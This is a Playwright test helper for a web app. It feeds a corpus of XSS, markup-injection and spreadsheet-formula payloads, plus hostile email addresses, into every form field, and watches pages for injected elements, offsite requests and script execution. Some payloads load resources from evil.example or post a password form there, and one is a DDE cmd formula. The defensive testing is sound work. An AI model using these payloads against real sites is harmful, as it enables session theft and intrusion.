// Hostile texts, and a watch over pages that notices when one of them becomes more than text.
import { expect, type Browser, type BrowserContextOptions, type Page } from '@playwright/test';
import { inDays } from './people';
import { signInAs, type Demo } from './server';

/**
 * Each wants to bring an element with the attribute `pwn` into a page, to call `pwned()`, to have something loaded from elsewhere, or to
 * be a formula in a spreadsheet.
 */
export const PAYLOADS = [
  // Out of text, and out of whatever the text stands in.
  '<script pwn>pwned()</script>',
  '"><script pwn>pwned()</script>',
  "'><img pwn src=x onerror=pwned()>",
  '</textarea><script pwn>pwned()</script>',
  '</title><img pwn src=x onerror=pwned()>',
  '</style><svg pwn onload=pwned()>',
  '</script><script pwn>pwned()</script>',
  '</select></option><img pwn src=x onerror=pwned()>',
  '--><img pwn src=x onerror=pwned()>',
  '<!--><img pwn src=x onerror=pwned()>-->',
  ']]><img pwn src=x onerror=pwned()>',
  '<IMG """><SCRIPT PWN>pwned()</SCRIPT>">',
  '<scr<script>ipt pwn>pwned()</scr</script>ipt>',
  '<<script pwn>pwned()//<</script>',
  '<img pwn src=x onerror=pwned()//',
  // Other languages inside of HTML, and texts that change when they are read twice.
  '<svg pwn><script href="data:,pwned()"/></svg>',
  '<svg pwn><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg pwn><use href="data:image/svg+xml,<svg onload=pwned()>"/></svg>',
  '<svg pwn><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  '<math pwn><a xlink:href="javascript:pwned()">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img pwn src=x onerror=pwned()>',
  '<svg></p><style><a id="</style><img pwn src=x onerror=pwned()>">',
  '<noscript><p title="</noscript><img pwn src=x onerror=pwned()>">',
  '<select><template><img pwn src=x onerror=pwned()></template></select>',
  // Elements that bring something along.
  '<iframe pwn srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe pwn src="javascript:parent.pwned()"></iframe>',
  '<object pwn data="data:text/html,<script>parent.pwned()</script>"></object>',
  '<embed pwn src="https://evil.example/pwned.swf">',
  '<base pwn href="https://evil.example/">',
  '<meta pwn http-equiv=refresh content="0;url=https://evil.example/">',
  '<link pwn rel=stylesheet href="https://evil.example/pwned.css">',
  '<style pwn>@import "https://evil.example/pwned.css";</style>',
  '<p pwn style="background:url(https://evil.example/pwned.png)">x</p>',
  '<form pwn action="https://evil.example/"><input name=password><button>OK</button></form>',
  // Events that need nobody.
  '<input pwn autofocus onfocus=pwned()>',
  '<details pwn open ontoggle=pwned()>x</details>',
  '<video pwn><source onerror=pwned() src=x></video>',
  '<body pwn onload=pwned()>',
  '<marquee pwn onstart=pwned()>x</marquee>',
  '<x-pwn pwn style=animation-name:x onanimationstart=pwned()>',
  // Names that scripts look for.
  '<a pwn id=cookie></a><form pwn name=body></form>',
  '<img pwn name=querySelector><img pwn id=getElementById>',
  // Out of attributes.
  '" onmouseover="pwned()" pwn x="',
  "' autofocus onfocus='pwned()' pwn x='",
  '` onmouseover=pwned() pwn `',
  // Addresses, bare and in Markdown.
  '<a pwn href="javascript:pwned()">x</a>',
  'javascript:pwned()//',
  'data:text/html,<script pwn>pwned()</script>',
  '[x](JaVaScRiPt&colon;pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+ "pwn")',
  '![x](x"onerror="pwned()"pwn="x)',
  '![x](https://evil.example/pwned.png)',
  '<javascript:pwned()>',
  // Written otherwise.
  '&lt;img pwn src=x onerror=pwned()&gt;',
  '&#60;img pwn src=x onerror=pwned()&#x3e;',
  '\\u003cimg pwn src=x onerror=pwned()\\u003e${pwned()}<%=pwned()%>#{pwned()}',
  '<scr\u0000ipt pwn>pwned()</scr\u0000ipt>\u202E<img pwn src=x onerror=pwned()>\u2066',
  // Formulas.
  '=HYPERLINK("https://evil.example/?"&A1;"pwn")',
  "@SUM(1+1)*cmd|' /C pwned'!A0",
  '+ADw-script pwn+AD4-pwned()+ADw-/script+AD4-',
];

/** The payload with the NUL and the overrides of direction, which no line takes. */
const hasControls = (payload: string) => payload.includes('\u0000');

/** All the others, which lines and published texts take. */
export const CALM = PAYLOADS.filter((payload) => !hasControls(payload));

/** What a field was given and what it took, and whether it has to take a payload: not each of them fits where addresses or short names go. */
export interface Field {
  readonly offered: Set<string>;
  readonly taken: Set<string>;
  readonly fits: (payload: string) => boolean;
}

/** Fields that hold less than any line, by form and name. */
const NARROW: [RegExp, (payload: string) => boolean][] = [
  [/ tags$/, (payload) => payload.split(/[,;]/).every((tag) => tag.trim().length <= 40)],
  [/\/factors\/[\w-]+ /, (payload) => payload.length <= 60],
  // Nothing that looks like an address: whoever types that is about to copy a report.
  [/\/checks\/|legal_basis/, (payload) => payload.split(/\s+/).every((word) => !word.replace(/^@+|@+$/g, '').includes('@'))],
  // An image that is not there cannot be published.
  [/ body_\w+, to be published$/, (payload) => !payload.startsWith('![')],
];

/** Addresses as hostile as addresses may be; `n` makes them different. */
const EMAILS = ["o'pwned`n@postfach.example", '=1+pwned-n@postfach.example', '+pwned-n@postfach.example', '-pwned-n@postfach.example', '&lt;img/pwn/src=x&gt;n@postfach.example'.replaceAll(';', ''), "'/onfocus='pwned`x'/pwn='n@postfach.example", '{{pwned}}${pwned}n@postfach.example'];

let emails = 0;
export const hostileEmail = () => EMAILS[emails++ % EMAILS.length]!.replace(/n(?=@)/, `n${emails}`);

/** Every payload as a paragraph, and each in one of the places that Markdown has for it. */
export const hostileText = (payloads: string[], { images = true } = {}) => {
  const places = [
    (p: string) => `## ${p}`,
    (p: string) => `[x](${p})`,
    (p: string) => `[${p}](https://example.com/ "${p}")`,
    (p: string) => (images ? `![${p}](${p})` : p),
    (p: string) => `> **${p}**`,
    (p: string) => `- \`${p}\``,
    (p: string) => `| ${p} |\n| --- |\n| ${p} |`,
    (p: string) => `\`\`\`${p}\n${p}\n\`\`\``,
    (p: string) => `<${p}>`,
  ];
  const named = images ? payloads : payloads.filter((payload) => !payload.startsWith('!['));
  return named.map((payload, index) => `${payload}\n\n${places[index % places.length]!(payload)}`).join('\n\n');
};

/** Runs in the page before anything else of it: looks at every element as it comes or changes. */
function keepWatch() {
  type Spy = { spied?: (what: string) => void };
  const told = new Set<string>();
  const tell = (what: string) => {
    if (!told.has(what)) (window as Spy).spied?.(`${location.pathname}: ${what}`);
    told.add(what);
  };
  Object.assign(window, { pwned: () => tell('a script ran') });
  document.addEventListener('securitypolicyviolation', (event) => tell(`CSP report: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  const foreign = 'iframe,object,embed,base,applet,frame,frameset,marquee,math,style,audio,video,animate,set,foreignObject,portal,meta[http-equiv],svg script,svg a';
  const leads = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'ping', 'background', 'srcset'];
  const look = (element: Element) => {
    const shown = () => element.outerHTML.slice(0, 200);
    if (element.matches(foreign) || element.hasAttribute('pwn')) tell(`an element that is not ours: ${shown()}`);
    if (element instanceof HTMLScriptElement && !element.nonce) tell(`a script without a nonce: ${shown()}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || (name === 'style' && /url|pwn/.test(value))) tell(`an attribute that is not ours: ${shown()}`);
      if (!leads.includes(name)) continue;
      const address = URL.parse(value, location.href);
      if (!address) continue;
      const { protocol, origin } = address;
      const mayLeave = element instanceof HTMLAnchorElement && (['mailto:', 'otpauth:'].includes(protocol) || element.closest('.prose'));
      if (!['https:', 'http:', 'mailto:', 'otpauth:'].includes(protocol) || (origin !== location.origin && !mayLeave)) tell(`it leads elsewhere: ${shown()}`);
    }
    if (element instanceof HTMLTemplateElement) element.content.querySelectorAll('*').forEach(look);
  };
  new MutationObserver((changes) => {
    for (const change of changes) {
      if (change.type === 'attributes') look(change.target as Element);
      for (const node of change.addedNodes) {
        if (node instanceof Element) [node, ...node.querySelectorAll('*')].forEach(look);
      }
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
}

/** What the watch over all pages has noticed. */
export class Watch {
  readonly complaints: string[] = [];
  /** The payloads that were seen as text. */
  readonly shown = new Set<string>();
  /** The paths that were answered with a page. */
  readonly paths = new Set<string>();
  /** Every field that was filled, by its form's action and its name. */
  readonly fields = new Map<string, Field>();
  /** How many payloads each of them was offered, from a place in the list of its own on. */
  private readonly turns = new Map<string, number>();
  /** The forms that were shown as refused in this round. */
  private readonly refused = new Set<string>();
  private turn = 0;

  constructor(private readonly browser: Browser, private readonly demo: Demo) {}

  /** A browser of its own, watched. */
  async open(options: BrowserContextOptions = {}): Promise<Page> {
    const context = await this.browser.newContext({ baseURL: this.demo.url, locale: 'de-DE', ...options });
    await context.exposeBinding('spied', (_, what: string) => void this.complaints.push(what));
    await context.addInitScript(keepWatch);
    const page = await context.newPage();
    page.on('dialog', (dialog) => {
      this.complaints.push(`${page.url()}: a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => this.complaints.push(`${page.url()}: ${String(error)}`));
    page.on('console', (message) => {
      // Pages that are missing or over answer with what Chromium calls an error.
      if (message.type() === 'error' && !/status of 40[49]/.test(message.text())) this.complaints.push(`${page.url()}: ${message.text()}`);
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(this.demo.url) && !request.url().startsWith('blob:')) this.complaints.push(`${page.url()}: asked for ${request.url()}`);
    });
    return page;
  }

  async openAs(email: string, password: string, options: BrowserContextOptions = {}): Promise<Page> {
    const page = await this.open(options);
    await signInAs(page, email, password);
    return page;
  }

  /** The next payload in turn, for what is no field of a form: names of files, cells of lists, queries. */
  next(): string {
    return PAYLOADS[this.turn++ % PAYLOADS.length]!;
  }

  /** The same, and one that may be published. It takes one turn as well, or all places after it would get what others had before. */
  nextCalm(): string {
    const payload = this.next();
    return hasControls(payload) ? CALM[0]! : payload;
  }

  /**
   * A field's next payload. Each field counts for itself, so that after as many rounds as there are payloads it was offered each of them,
   * whatever others refused meanwhile. Fields begin one after the other in the list, so that one round spreads all of it.
   */
  private offer(field: string, calm: boolean): string {
    const turn = this.turns.get(field) ?? this.turns.size;
    this.turns.set(field, turn + 1);
    const payload = PAYLOADS[turn % PAYLOADS.length]!;
    if (calm && hasControls(payload)) return this.offer(field, calm);
    this.fields.get(field)!.offered.add(payload);
    return payload;
  }

  /** Makes the next round give each of those places another payload than this one did. */
  startRound(round: number) {
    this.turn = round;
    this.refused.clear();
  }

  /** Waits until the page's islands are awake, and notes which payloads it shows. */
  async settle(page: Page) {
    await page.waitForFunction(() => !document.querySelector('leptos-island') || performance.getEntriesByType('resource').some((entry) => entry.name.endsWith('.wasm')));
    const text = await page.evaluate(() => {
      const fields = [...document.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value);
      return [document.title, document.body.textContent, ...fields].join('\n');
    });
    for (const payload of PAYLOADS) if (text.includes(payload.replaceAll('\u0000', ''))) this.shown.add(payload);
  }

  /** Opens a page; whether there is one, which an applied list no longer is. */
  async visit(page: Page, path: string): Promise<boolean> {
    const answer = await page.goto(path);
    const status = answer?.status() ?? 0;
    if (![200, 404, 409].includes(status)) this.complaints.push(`${path}: ${status}`);
    await this.settle(page);
    if (status === 200) this.paths.add(new URL(page.url()).pathname);
    return status === 200;
  }

  /**
   * Fills every text field of a form and sends it off, as often as it takes: what a field refuses comes back on the page, and then it is
   * given its next payload. `fixed` are the fields that cannot hold just any text; `calm` texts can be published, and count apart.
   */
  async fill(page: Page, selector: string, fixed: Record<string, string> = {}, { calm = false, button = 'button:not([type=button])' } = {}) {
    this.paths.add(new URL(page.url()).pathname);
    const form = page.locator(selector).first();
    const action = (await form.getAttribute('action'))!.replace(/[0-9a-f-]{36}/g, ':id').replace(/(?<=\/lessons\/)[^/]+/, ':slug');
    const fields = await form.evaluate((form) =>
      [...(form as HTMLFormElement).elements]
        .filter((field) => field.matches('textarea, input:not([type]), input[type=text], input[type=email], input[type=search]'))
        .map((field) => ({ name: (field as HTMLInputElement).name, type: (field as HTMLInputElement).type })),
    );
    const values: Record<string, string> = { ...fixed };
    const text = hostileText(CALM, { images: !calm });
    const keyOf = (name: string) => `${action} ${name.replace(/[0-9a-f-]{36}/g, ':id')}${calm ? ', to be published' : ''}`;
    const choose = (name: string, type: string, attempt: number) => {
      const field = keyOf(name);
      if (type === 'email') return attempt === 0 ? `${this.offer(field, calm)}@postfach.example` : hostileEmail();
      if (name.startsWith('body_')) {
        for (const payload of CALM) this.fields.get(field)!.offered.add(payload);
        return text;
      }
      // Short and without anything that a narrow field could mind, so that every field takes one in every round.
      if (attempt === 5) return CALM[0]!;
      return attempt > 5 ? 'Harmlos' : this.offer(field, calm);
    };
    const typed = fields.filter(({ name }) => !(name in fixed));
    for (const { name, type } of typed) {
      const field = keyOf(name);
      const narrow = NARROW.filter(([which]) => which.test(field)).map(([, fits]) => fits);
      const fits = (payload: string) => type !== 'email' && narrow.every((fits) => fits(payload));
      if (!this.fields.has(field)) this.fields.set(field, { offered: new Set(), taken: new Set(), fits });
      values[name] = choose(name, type, 0);
    }
    for (let attempt = 1; attempt < 8; attempt += 1) {
      await Promise.all([page.waitForEvent('load'), this.send(page, selector, values, button)]);
      await this.settle(page);
      if ((await page.locator('.error-summary').count()) === 0) {
        for (const { name } of typed) this.note(keyOf(name), values[name]!);
        this.paths.add(new URL(page.url()).pathname);
        return;
      }
      const refused = await page.locator('[aria-invalid=true]').evaluateAll((fields) => fields.map((field) => (field as HTMLInputElement).name));
      const again = typed.filter(({ name }) => refused.includes(name));
      expect(again, `${action}: ${await page.locator('.error-summary').innerText()}`).not.toEqual([]);
      for (const { name, type } of again) values[name] = choose(name, type, attempt);
    }
    throw new Error(`${action} takes nothing`);
  }

  private note(field: string, value: string) {
    const { taken } = this.fields.get(field)!;
    for (const payload of PAYLOADS) if (field.includes(' body_') ? value.includes(payload) : value === payload) taken.add(payload);
    if (value.includes('pwn') && value.includes('@postfach')) taken.add('address');
  }

  private async send(page: Page, selector: string, values: Record<string, string>, button: string) {
    const inTenDays = inDays(10);
    await page.locator(selector).first().evaluate(
      (node, { values, button, inTenDays }) => {
        const form = node as HTMLFormElement;
        form.noValidate = true;
        for (const field of [...form.elements] as (HTMLInputElement | HTMLSelectElement)[]) {
          const wanted = values[field.name];
          const chosen = ['radio', 'checkbox'].includes(field.type);
          if (chosen && wanted !== undefined) (field as HTMLInputElement).checked = field.value === wanted;
          else if (wanted !== undefined) field.value = wanted;
          else if (field instanceof HTMLSelectElement && !field.value) field.selectedIndex = 1;
          else if (field.type === 'date' && !field.value) field.value = inTenDays;
          else if (field.type === 'radio' && !form.querySelector(`input[name="${CSS.escape(field.name)}"]:checked`)) (field as HTMLInputElement).checked = true;
          else continue;
          for (const event of ['input', 'change']) field.dispatchEvent(new Event(event, { bubbles: true }));
        }
        form.requestSubmit(form.querySelector<HTMLButtonElement>(button));
      },
      { values, button, inTenDays },
    );
  }

  /** Presses the button of a form that has nothing to type. */
  async press(page: Page, selector: string) {
    const button = page.locator(selector).first();
    await expect(button, await page.locator('main').innerText()).toBeVisible();
    await Promise.all([page.waitForEvent('load'), button.click()]);
    await this.settle(page);
  }

  /** Chooses a file, and waits for the page that shows what is in it. */
  async upload(page: Page, path: string, file: { name: string; content: string | Buffer }) {
    await page.goto(path);
    await page.locator('input[type=file]').first().setInputFiles({ name: file.name, mimeType: 'application/octet-stream', buffer: Buffer.from(file.content) });
    const button = page.locator('form[enctype] button');
    if (await button.isVisible().catch(() => false)) await button.click({ timeout: 2_000 }).catch(() => undefined);
    await expect(page).toHaveURL(/[0-9a-f-]{36}/);
    await this.settle(page);
    this.paths.add(new URL(page.url()).pathname);
  }

  /**
   * Shows the page that is open once more, as if a form on it had been refused with a payload in each of its fields: one cookie carries
   * that, and whoever can set cookies for this host could forge it. Once for each form in a round.
   */
  async refuseForms(page: Page) {
    const forms = await page.evaluate(() =>
      [...document.forms]
        .filter((form) => form.method === 'post')
        .map((form) => ({ action: form.getAttribute('action'), names: [...form.elements].map((field) => (field as HTMLInputElement).name).filter((name) => name !== '' && name !== 'id') }))
        .filter(({ names }) => names.length > 0),
    );
    const address = page.url();
    const fields = forms.flatMap(({ action, names }) => names.map((name) => ({ action, name })));
    while (fields.length > 0) {
      const { action } = fields[0]!;
      const here = fields.filter((field) => field.action === action).slice(0, 12);
      for (const field of here) fields.splice(fields.indexOf(field), 1);
      const form = [action?.replace(/[0-9a-f-]{36}/g, ':id'), ...here.map(({ name }) => name.replace(/\[[^\]]+\]/, '[]'))].join(' ');
      if (this.refused.has(form)) continue;
      this.refused.add(form);
      const error = { Invalid: here.map(({ name }) => ({ field: name, problem: 'Required' })) };
      await this.showFlash(page, address, { Failed: { error, action, typed: here.map(({ name }) => [name, this.next()]) } });
    }
  }

  /** Opens a page with a forged message. */
  async showFlash(page: Page, address: string, flash: unknown) {
    const value = Buffer.from(JSON.stringify(flash)).toString('base64url');
    await page.context().addCookies([{ name: 'flash', value, url: this.demo.url }]);
    await page.goto(address);
    await this.settle(page);
  }
}
